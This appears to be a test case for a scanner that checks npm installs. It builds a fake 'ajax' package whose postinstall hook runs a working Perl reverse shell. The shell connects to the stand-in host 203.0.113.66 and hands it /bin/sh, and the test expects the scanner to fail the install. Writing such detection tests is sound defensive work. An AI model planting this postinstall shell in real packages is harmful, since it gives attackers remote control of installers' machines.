#!/bin/bash
# A postinstall that gives a shell to a connection.
#: tool npm
#: description a postinstall script starts a shell whose input and output are a connection
#: project a project that installs one package
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: finding socket-stdio
#: decision fail
#: attack @roku-web-core/ajax and secrevthree, found by package-analysis (2022)
if [ "${1-}" = prepare ]; then
  echo '{"name":"app","version":"1.0.0","private":true}' > package.json
  mkdir -p ~/from/package && cd ~/from/package
  echo '{"name": "ajax", "version": "1.0.0", "scripts": {"postinstall": "perl shell.pl"}}' > package.json
  cat > shell.pl <<'END'
use Socket;
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
if (connect(S, sockaddr_in(80, inet_aton("203.0.113.66")))) {
    open(STDIN, "<&S");
    open(STDOUT, ">&S");
    open(STDERR, ">&S");
    exec("/bin/sh");
}
END
  tar czf ~/ajax.tgz -C .. package && rm -r ~/from
  exit
fi
npm install --no-audit --no-fund ~/ajax.tgz
